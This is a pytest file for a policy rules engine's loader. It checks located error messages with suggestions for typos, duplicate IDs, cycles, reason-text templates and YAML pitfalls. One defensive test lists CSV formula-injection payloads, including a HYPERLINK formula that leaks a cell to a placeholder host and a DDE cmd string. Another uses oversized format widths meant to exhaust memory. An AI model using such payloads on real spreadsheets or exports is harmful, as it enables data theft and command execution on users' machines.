"""Reading a policy document: every problem at once, located, with suggestions; references,
features, keys, outputs and reasons."""
from __future__ import annotations

import pytest

from app.engine import build_policies, load_policy_root
from engine.read.samples import (CHECKS, GRADE, POLICY, base_files, load_files, position, where,
                                 write)
from engine.support import LEVEL, act, codes, errors, load, ruleset, run, sets


def test_the_base_policy_loads_cleanly(tmp_path):
    result = load_files(tmp_path)
    # no error; the warnings say what policy check would: the DECLINE rule C-1 reads the optional
    # field a, which no requirement lists, and decision_date is never read
    assert result.ok
    assert [(d.code, d.severity) for d in result.diagnostics] == [
        ("INPUT_UNUSED", "warning"), ("FAILS_OPEN", "warning")]
    assert "'decision_date'" in result.diagnostics[0].message
    assert "rule C-1 (DECLINE) fails open when a is missing" in result.diagnostics[1].message
    policy = result.policies["p.x"]
    decision = run(policy, a=11, e="RED")
    assert decision.outcome == "DECLINE" and decision.outputs == {"grade": "G1"}


# --- every problem at once ----------------------------------------------------------------------
def test_five_mistakes_give_five_located_diagnostics(tmp_path):
    policy = POLICY.replace("  double: a * 2\n", "  double: a * 2\n  bad: s + 1\n")  # 1 type
    checks = CHECKS.replace("reason: R2", "reason: R22") \
        .replace("s in lists.codes", "s in lists.codes or bogus > 1") \
        + "  - id: C-1\n    when: a > 20\n    then: {action: DECLINE, reason: R1}\n"
    grade = GRADE.replace("when: [RED]", "when: [REDD]")
    result = load_files(tmp_path, policies__p__x_yaml=policy, rules__checks_yaml=checks,
                        rules__grade_yaml=grade)
    assert not result.ok and result.policies == {}
    found = [where(d) for d in errors(result)]
    assert found == [
        ("EXPR_TYPE", "policies/p/x.yaml", *position(policy, "s + 1")),
        ("EXPR_UNKNOWN_NAME", "rules/checks.yaml", *position(checks, "bogus")),
        ("REASON_UNKNOWN", "rules/checks.yaml", *position(checks, "R22")),
        ("ID_DUPLICATE", "rules/checks.yaml", *position(checks, "C-1", 1)),
        ("CELL", "rules/grade.yaml", *position(grade, "REDD")),
    ], [str(d) for d in errors(result)]
    messages = {d.code: d.message for d in errors(result)}
    assert "did you mean 'R2'" in messages["REASON_UNKNOWN"]
    assert "did you mean 'RED'" in messages["CELL"]
    assert f"already used at rules/checks.yaml:{position(checks, 'C-1')[0]}:9" in \
        messages["ID_DUPLICATE"]


def test_unknown_reason_code_is_reported_next_to_other_errors(tmp_path):
    checks = CHECKS.replace("reason: R2", "reason: R22").replace("a > 10", "a > \"10\"")
    result = load_files(tmp_path, rules__checks_yaml=checks)
    found = {where(d) for d in errors(result)}
    assert ("REASON_UNKNOWN", "rules/checks.yaml", *position(checks, "R22")) in found
    assert ("EXPR_TYPE", "rules/checks.yaml", *position(checks, "a > ")) in found
    reason = next(d for d in errors(result) if d.code == "REASON_UNKNOWN")
    assert "did you mean 'R2'" in reason.message


def test_diagnostics_are_sorted_by_location(tmp_path):
    checks = CHECKS.replace("a > 10", "bogus > 10").replace("reason: R2", "reason: NOPE")
    result = load_files(tmp_path, rules__checks_yaml=checks, policies__p__x_yaml=POLICY + "x: 1\n")
    keys = [(d.location.file, d.location.line, d.location.column) for d in result.diagnostics]
    assert keys == sorted(keys) and len(keys) == 3


# --- ids, documents, references -----------------------------------------------------------------
def test_duplicate_rule_ids_across_rule_sets(tmp_path):
    other = ruleset("other", [
        {"id": "C-2", "when": "a > 1", "then": {"action": "REFER", "reason": "R3"}},
        {"id": "O-1", "when": "a > 2", "then": {"action": "REFER", "reason": "R3"}}])
    policy = POLICY.replace("  - {id: grade", "  - {id: other, ruleset: other}\n  - {id: grade")
    result = load_files(tmp_path, rules__other_yaml=other, policies__p__x_yaml=policy)
    [duplicate] = errors(result)
    assert duplicate.code == "ID_DUPLICATE"
    assert duplicate.location.file == "rules/other.yaml"
    assert f"rules/checks.yaml:{position(CHECKS, 'C-2')[0]}" in duplicate.message


def test_duplicate_stage_and_row_id(tmp_path):
    policy = POLICY.replace("{id: checks, ruleset: checks}", "{id: G-1, ruleset: checks}")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    [duplicate] = errors(result)
    assert where(duplicate) == ("ID_DUPLICATE", "rules/grade.yaml", *position(GRADE, "G-1"))
    assert "policies/p/x.yaml" in duplicate.message


def test_missing_rule_set_with_suggestion(tmp_path):
    policy = POLICY.replace("ruleset: checks}", "ruleset: chekcs}")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    [missing] = errors(result)
    assert where(missing) == ("DOC_MISSING", "policies/p/x.yaml", *position(policy, "chekcs"))
    assert "did you mean 'checks'" in missing.message


def test_missing_table_and_scorecard(tmp_path):
    policy = POLICY.replace("table: grade}", "table: grades}") \
        .replace("outputs: [grade]", "outputs: []")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert codes(result) == ["DOC_MISSING"]
    assert "did you mean 'grade'" in errors(result)[0].message


def test_unknown_reason_code_with_suggestion(tmp_path):
    checks = CHECKS.replace("reason: R1", "reason: [R1, R33]")
    result = load_files(tmp_path, rules__checks_yaml=checks)
    [unknown] = errors(result)
    assert where(unknown) == ("REASON_UNKNOWN", "rules/checks.yaml", *position(checks, "R33"))
    assert "did you mean 'R3'" in unknown.message


def test_missing_reason_catalogue(tmp_path):
    result = load_files(tmp_path, policies__p__x_yaml=POLICY.replace("reasons: reason_codes",
                                                                     "reasons: reasons"))
    assert "REASONS_MISSING" in codes(result)


def test_action_without_reason_and_unknown_action(tmp_path):
    checks = CHECKS.replace("{action: DECLINE, reason: R1}", "{action: DECLINE}") \
        .replace("{action: REFER, reason: R2}", "{action: REFFER, reason: R2}")
    result = load_files(tmp_path, rules__checks_yaml=checks)
    assert sorted(codes(result)) == ["EFFECT_ACTION", "EFFECT_REASON"]
    action = next(d for d in errors(result) if d.code == "EFFECT_ACTION")
    assert "did you mean 'REFER'" in action.message


def test_feature_cycle(tmp_path):
    policy = POLICY.replace("  double: a * 2\n", "  double: a * 2\n  x: y + 1\n  y: x + 1\n")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    cycles = [d for d in errors(result) if d.code == "FEATURE_CYCLE"]
    assert len(cycles) == 1
    assert "x -> y -> x" in cycles[0].message or "y -> x -> y" in cycles[0].message
    assert cycles[0].location.file == "policies/p/x.yaml"
    assert cycles[0].location.line in (position(policy, "x: y")[0], position(policy, "y: x")[0])


def test_feature_referring_to_itself(tmp_path):
    policy = POLICY.replace("  double: a * 2\n", "  double: double * 2\n")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert "FEATURE_CYCLE" in codes(result)
    cycle = next(d for d in errors(result) if d.code == "FEATURE_CYCLE")
    assert "refers to itself" in cycle.message


def test_features_may_be_written_in_any_order(tmp_path):
    policy = POLICY.replace("  double: a * 2\n", "  quad: double * 2\n  double: a * 2\n")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert result.ok
    assert run(result.policies["p.x"], a=3).trace.values["quad"] == 12


@pytest.mark.parametrize("file, old, new, key, suggestion", [
    ("rules/checks.yaml", "hit_policy: collect", "hit_policy: collect\nzzz: 1", "zzz", None),
    ("rules/checks.yaml", "name: {zh", "nmae: {zh", "nmae", "name"),
    ("rules/checks.yaml", "    when: a > 10", "    when: a > 10\n    priorty: 3", "priorty",
     "priority"),
    ("rules/grade.yaml", "hit_policy: first", "hit_policy: first\nwhen_nome: 1", "when_nome",
     "when_none"),
    ("policies/p/x.yaml", "features:", "featurez: {}\nfeatures:", "featurez", "features"),
    ("policies/p/x.yaml", "  a: integer", "  a: {type: integer, mni: 0}", "mni", "min"),
    ("policies/p/x.yaml", "  - {id: checks", "  - {id: checks, ruelset: x", "ruelset", None),
])
def test_unknown_keys_with_suggestion(tmp_path, file, old, new, key, suggestion):
    files = base_files()
    assert old in files[file]
    files[file] = files[file].replace(old, new, 1)
    result = load_policy_root(write(tmp_path, files))
    [unknown] = errors(result)
    assert unknown.code in ("UNKNOWN_KEY", "INPUT_KEY")
    assert f"'{key}'" in unknown.message
    assert (unknown.location.file, unknown.location.line) == (file, position(files[file], key)[0])
    if suggestion:
        assert f"did you mean '{suggestion}'" in unknown.message


@pytest.mark.parametrize("new", ["featurez: {}\nfeatures:", "featurez:\n  x: a\nfeatures:"])
def test_unknown_key_is_located_at_the_key(tmp_path, new):
    """Regression: unknown keys were located at their value, not the key."""
    files = base_files()
    files["policies/p/x.yaml"] = POLICY.replace("features:", new)
    [unknown] = errors(load_policy_root(write(tmp_path, files)))
    assert (unknown.location.line, unknown.location.column) == \
        position(files["policies/p/x.yaml"], "featurez")


def test_unknown_output_and_unknown_set_target(tmp_path):
    policy = POLICY.replace("outputs: [grade]", "outputs: [grad]")
    grade = GRADE.replace("then: {grade: G1}", "then: {grad: G1}")
    result = load_files(tmp_path, policies__p__x_yaml=policy, rules__grade_yaml=grade)
    assert sorted(codes(result)) == ["OUTPUT_UNKNOWN", "SET_UNKNOWN"]
    assert all("did you mean 'grade'" in d.message for d in errors(result))


def test_name_used_twice(tmp_path):
    policy = POLICY.replace("  double: a * 2\n", "  double: a * 2\n  grade: a + 1\n")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert codes(result) == ["NAME_TAKEN"]


def test_unused_document_is_a_warning(tmp_path):
    result = load_files(tmp_path, rules__spare_yaml=ruleset("spare", [
        {"id": "S-1", "when": "nonsense > 1", "then": {"action": "DECLINE", "reason": "R1"}}]))
    assert result.ok
    [warning] = [d for d in result.diagnostics if d.code == "DOC_UNUSED"]
    assert (warning.code, warning.severity, warning.location.file) == \
        ("DOC_UNUSED", "warning", "rules/spare.yaml")


@pytest.mark.parametrize("target", ["[checks]", "{k: 1}"])
def test_stage_target_must_be_a_name(tmp_path, target):
    policy = POLICY.replace("ruleset: checks}", f"ruleset: {target}}}")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert not result.ok
    assert {d.location.file for d in errors(result)} == {"policies/p/x.yaml"}


@pytest.mark.parametrize("outputs", ["[{k: 1}]", "{k: 1}"])
def test_outputs_must_be_names(tmp_path, outputs):
    policy = POLICY.replace("outputs: [grade]", f"outputs: {outputs}")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert "OUTPUT_UNKNOWN" in codes(result) or not result.ok


def test_reasons_must_be_a_name(tmp_path):
    result = load_files(tmp_path, policies__p__x_yaml=POLICY.replace(
        "reasons: reason_codes", "reasons: [reason_codes]"))
    assert not result.ok
    assert {d.location.file for d in errors(result)} == {"policies/p/x.yaml"}


def test_a_policy_with_an_error_in_its_name_is_not_built():
    files = base_files()
    files["policies/p/x.yaml"] = POLICY.replace("name: {zh: 测试, en: Test}",
                                                "name: {zh: 测试, fr: x}")
    parts, diagnostics = build_policies(files)
    assert [d.code for d in diagnostics if d.severity == "error"] == ["NAME_LANGUAGE"]
    assert "p.x" not in parts


def test_a_rule_cannot_read_the_output_of_a_later_stage(tmp_path):
    result = load(tmp_path, {
        "early": ruleset("early", [{"id": "E-1", "when": 'level == "HIGH"',
                                    "then": act("DECLINE", "R1")},
                                   {"id": "E-2", "when": "a > 1", "then": act("DECLINE", "R2")}]),
        "grading": ruleset("grading", [{"id": "G-1", "when": "a > 5", "then": sets(level="HIGH")}],
                           hit_policy="first", outputs=LEVEL)},
        stages=[{"id": "early", "ruleset": "early"}, {"id": "grading", "ruleset": "grading"}])
    assert codes(result) == ["EXPR_UNKNOWN_NAME"]


def test_two_stages_cannot_write_the_same_output(tmp_path):
    one = ruleset("one", [{"id": "O-1", "when": "a > 5", "then": sets(level="HIGH")}],
                  hit_policy="first", outputs=LEVEL)
    two = ruleset("two", [{"id": "T-1", "when": "a > 6", "then": sets(level="MID")}],
                  hit_policy="first", outputs=LEVEL)
    result = load(tmp_path, {"one": one, "two": two},
                  stages=[{"id": "one", "ruleset": "one"}, {"id": "two", "ruleset": "two"}])
    assert codes(result) == ["NAME_TAKEN"]


def test_rule_set_used_by_two_stages_reports_its_rules_twice_as_duplicate_ids(tmp_path):
    rules = ruleset("c", [{"id": "C-1", "when": "a > 5", "then": act("REFER", "R1")}])
    result = load(tmp_path, {"c": rules}, stages=[{"id": "s1", "ruleset": "c"},
                                                  {"id": "s2", "ruleset": "c"}])
    assert "ID_DUPLICATE" in codes(result)


# --- reason texts: parameters filled in, a customer text beside the internal one -----------------
TEMPLATED = """\
reason_codes:
  R1: {zh: "年龄不在{min_age}至{max_age}周岁", en: "Age outside {min_age} to {max_age}", customer: {zh: "面向{min_age}至{max_age}周岁", en: "For ages {min_age} to {max_age}"}}
  R2: {zh: "额度上限{cap:,}元", en: "Cap {cap:,} yuan, {{braces}} kept", customer: {zh: 请联系客户经理, en: Please contact us}}
"""


def test_reason_texts_take_their_numbers_from_the_parameters(tmp_path):
    policy = POLICY.replace("features:", "parameters:\n  min_age: 22\n  max_age: 60\n"
                            "  cap: 200000\nfeatures:")
    result = load_files(tmp_path, policies__p__x_yaml=policy, rules__reason_codes_yaml=TEMPLATED)
    assert result.ok, [str(d) for d in errors(result)]
    policy = result.policies["p.x"]
    decision = run(policy, a=11, e="RED")
    [reason] = decision.reasons
    assert (reason.zh, reason.en) == ("年龄不在22至60周岁", "Age outside 22 to 60")
    assert (reason.customer_zh, reason.customer_en) == ("面向22至60周岁", "For ages 22 to 60")
    assert decision.to_dict()["reasons"][0]["customer"] == {"zh": "面向22至60周岁",
                                                             "en": "For ages 22 to 60"}
    texts = policy.parts.reasons["R2"]
    assert (texts.zh, texts.en) == ("额度上限200,000元", "Cap 200,000 yuan, {braces} kept")


@pytest.mark.parametrize("entry, code, words", [
    ('R1: {zh: "不在{min_ag}岁", en: x, customer: {zh: y, en: y}}', "REASON_PLACEHOLDER",
     "did you mean 'min_age'"),
    ('R1: {zh: "不在{min_age", en: x, customer: {zh: y, en: y}}', "REASON_PLACEHOLDER",
     "unbalanced braces"),
    ('R1: {zh: "{min_age:%Y}", en: x, customer: {zh: y, en: y}}', "REASON_PLACEHOLDER",
     "is not a format"),
    ("R1: {zh: 拒绝, en: Declined}", "REASON_CUSTOMER_TEXT", "the text the applicant is shown"),
    ("R1: {zh: 拒绝, en: Declined, customer: {zh: 拒绝}}", "REASON_CUSTOMER_TEXT", "customer"),
    ("R1: {zh: 拒绝, en: Declined, customer: {zh: a, en: b}, note: c}", "UNKNOWN_KEY", "note"),
])
def test_reason_text_mistakes_are_located(tmp_path, entry, code, words):
    policy = POLICY.replace("features:", "parameters:\n  min_age: 22\nfeatures:")
    catalogue = "reason_codes:\n  " + entry + "\n" + "".join(
        f"  {c}: {{zh: a, en: b, customer: {{zh: c, en: d}}}}\n" for c in ("R2", "R3", "R4"))
    result = load_files(tmp_path, policies__p__x_yaml=policy, rules__reason_codes_yaml=catalogue)
    found = [d for d in errors(result) if d.code == code]
    assert found, codes(result)
    assert words in found[0].message
    assert (found[0].location.file, found[0].location.line) == ("rules/reason_codes.yaml", 2)


# --- list parameters ---------------------------------------------------------------------------------
def test_a_list_parameter_reads_like_a_named_list(tmp_path):
    policy = POLICY.replace("features:", 'parameters:\n  region: ["310000", "330000"]\n'
                            "  sizes: [1, 2, 3]\nfeatures:\n  inside: s in params.region\n"
                            "  small: a in params.sizes")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert result.ok, [str(d) for d in errors(result)]
    policy = result.policies["p.x"]
    assert policy.parts.parameters["region"] == ("310000", "330000")
    values = run(policy, a=2, s="330000").trace.values
    assert (values["inside"], values["small"]) == (True, True)
    values = run(policy, a=4, s="440000").trace.values
    assert (values["inside"], values["small"]) == (False, False)


@pytest.mark.parametrize("parameters, feature, code", [
    ('  mixed: ["a", 1]', "s in params.mixed", "PARAMETER"),
    ("  empty: []", "a > 1", "PARAMETER"),
    ('  region: ["310000"]', "params.region", "EXPR_LIST"),
    ('  region: ["310000"]', "len(params.region) > 0", "EXPR_LIST"),
    ("  sizes: [1, 2]", "s in params.sizes", "EXPR_TYPE"),
])
def test_list_parameter_mistakes(tmp_path, parameters, feature, code):
    policy = POLICY.replace("features:", f"parameters:\n{parameters}\nfeatures:\n  f: {feature}")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert code in codes(result)


# --- outputs shown only with some outcomes -------------------------------------------------------
def test_outputs_name_the_outcomes_they_are_shown_with(tmp_path):
    policy = POLICY.replace("outputs: [grade]",
                            "outputs:\n  - {name: grade, outcomes: [APPROVE, REFER]}\n  - double")
    result = load_files(tmp_path, policies__p__x_yaml=policy)
    assert result.ok, [str(d) for d in errors(result)]
    policy = result.policies["p.x"]
    declined = run(policy, a=11, e="RED")
    assert declined.outcome == "DECLINE"
    assert declined.outputs == {"grade": None, "double": 22}
    assert declined.to_dict()["outputs"] == {"grade": None, "double": 22}
    assert declined.trace.values["grade"] == "G1"  # computed all the same, for the trace
    approved = run(policy, a=5, e="RED")
    assert approved.outputs == {"grade": "G1", "double": 10}


@pytest.mark.parametrize("outputs, code", [
    ("  - {name: grade, outcomes: [APPROVED]}", "OUTPUT_OUTCOMES"),
    ("  - {name: grade, outcomes: []}", "OUTPUT_OUTCOMES"),
    ("  - {name: grade, shown: [APPROVE]}", "UNKNOWN_KEY"),
    ("  - {outcomes: [APPROVE]}", "OUTPUT_NAME"),
])
def test_output_outcome_mistakes(tmp_path, outputs, code):
    policy = POLICY.replace("outputs: [grade]", "outputs:\n" + outputs)
    assert code in codes(load_files(tmp_path, policies__p__x_yaml=policy))


def test_a_key_yaml_reads_as_true_or_false_is_explained(tmp_path):
    policy = POLICY.replace("outputs: [grade]", "outputs:\n  - {name: grade, on: [APPROVE]}")
    [error] = errors(load_files(tmp_path, policies__p__x_yaml=policy))
    assert error.code == "YAML_KEY" and "quote the key" in error.message
    assert (error.location.line, error.location.column) == position(policy, "on: [APPROVE]")


def test_a_catalogue_without_customer_texts_loads_as_before_with_a_warning(tmp_path):
    """A policy version stored before customer texts and requirements existed still loads and
    decides as it did: no customer text in its reasons, no requirements in its trace."""
    old = "reason_codes:\n" + "".join(f"  {c}: {{zh: 原因{c}, en: Reason {c}}}\n"
                                      for c in ("R1", "R2", "R3", "R4"))
    result = load_files(tmp_path, rules__reason_codes_yaml=old)
    assert result.ok
    [warning] = [d for d in result.diagnostics if d.code == "REASON_CUSTOMER_TEXT"]
    assert warning.severity == "warning" and warning.location.file == "rules/reason_codes.yaml"
    decision = run(result.policies["p.x"], a=11, e="RED")
    assert decision.to_dict()["reasons"] == [{"code": "R1", "zh": "原因R1", "en": "Reason R1",
                                              "action": "DECLINE", "stage": "checks",
                                              "rule": "C-1"}]
    assert "requirements" not in decision.trace.to_dict()
    assert result.policies["p.x"].parts.reasons["RULESET_CONFLICT"].customer_zh == ""


@pytest.mark.parametrize("output, warned", [("segment", True), ("applicant_group", True),
                                            ("customer_group", False), ("level", False)])
def test_a_group_output_not_called_customer_group_is_a_warning(tmp_path, output, warned):
    # the decision's customer_group is the value of that name: `segment` would leave it null
    kind = {"type": "enum", "values": ["SALARIED", "OTHER"]}
    rules = {"seg": ruleset("seg", [{"id": "S1", "when": "a > 5", "then": sets(**{output: "SALARIED"})},
                                    {"id": "S2", "when": "true", "then": sets(**{output: "OTHER"})}],
                            hit_policy="first", outputs={output: kind})}
    result = load(tmp_path, rules, stages=[{"id": "seg", "ruleset": "seg"}], outputs=[output])
    assert result.ok, [str(d) for d in result.diagnostics]
    found = [d for d in result.diagnostics if d.code == "CUSTOMER_GROUP_MISSING"]
    assert len(found) == warned
    if warned:
        assert f"rename '{output}' to customer_group" in found[0].message
        assert found[0].severity == "warning" and found[0].location.line > 0
    decision = run(result.policies["p.x"], a=9)
    assert decision.customer_group == ("SALARIED" if output == "customer_group" else None)


@pytest.mark.parametrize("code", ['"=HYPERLINK(\\"https://x.example/?\\"&A1)"', '"+1+cmd|x!A0"', '"@SUM(A1)"',
                                  '"-2+3"', '"R 1"', '"<b>R1</b>"'])
def test_a_reason_code_is_a_name_never_a_formula_or_markup(tmp_path, code):
    """Reason codes go as they are into the periodic review's actions.csv, reviews, addresses and
    report pages: a code a spreadsheet would run (= + - @) or a browser would read as markup is
    refused where the catalogue defines it."""
    catalogue = "reason_codes:\n" + "".join(
        f"  {c}: {{zh: 原因, en: Reason, customer: {{zh: 客户原因, en: Customer reason}}}}\n"
        for c in ("R1", "R2", code))
    result = load_files(tmp_path, rules__reason_codes_yaml=catalogue)
    assert not result.ok
    found = [d for d in errors(result) if d.code == "REASON_CODE"]
    assert found and found[0].location.file == "rules/reason_codes.yaml", [str(d) for d in errors(result)]


@pytest.mark.parametrize("written", ["1e5", "1.0e5", "-.5", "1,000", "01", "12:30", "0o17"])
def test_a_parameter_written_as_a_number_yaml_reads_as_text_is_an_error_at_it(tmp_path, written):
    """YAML 1.1 reads 1e5 and 1.0e5 (no sign in the exponent), -.5, 1,000 and 0o17 as text: the
    expression using the parameter was then the error ("the right side is string"), pointing away
    from the value to fix."""
    from engine.read.samples import POLICY, load_files
    policy = POLICY.replace("double: a * 2", "double: a * params.big") + f"parameters:\n  big: {written}\n"
    [problem] = [d for d in load_files(tmp_path, policies__p__x_yaml=policy).diagnostics if d.code == "PARAMETER_NUMBER"]
    assert problem.severity == "error" and (problem.location.line, problem.location.column) == (
        policy.count("\n"), 8)
    assert "quote it" in problem.message
    quoted = POLICY + f"parameters:\n  code: \"{written}\"\n"
    assert not [d for d in load_files(tmp_path, policies__p__x_yaml=quoted).diagnostics if d.code == "PARAMETER_NUMBER"]


@pytest.mark.parametrize("text", ["'Reason {big:50000000}'", "'Reason {big:.90000000f}'", "'Reason {big:>9999}'",
                                  "'" + "很长" * 600 + "'"])
def test_a_reason_text_cannot_be_made_huge(tmp_path, text):
    """A format width in a placeholder ({big:50000000}) was applied: a text of 50 MB (or GBs) in
    memory at load, then in every decision carrying the reason and every stored one."""
    from engine.read.samples import POLICY, load_files
    from engine.support import reasons_text
    catalogue = reasons_text().replace("en: Reason R1,", f"en: {text},")
    result = load_files(tmp_path, policies__p__x_yaml=POLICY + "parameters:\n  big: 5\n",
                        rules__reason_codes_yaml=catalogue)
    [problem] = [d for d in result.diagnostics if d.code in ("REASON_PLACEHOLDER", "REASON_TEXT")]
    assert problem.severity == "error" and problem.location.file == "rules/reason_codes.yaml"
    assert "R1" in problem.message
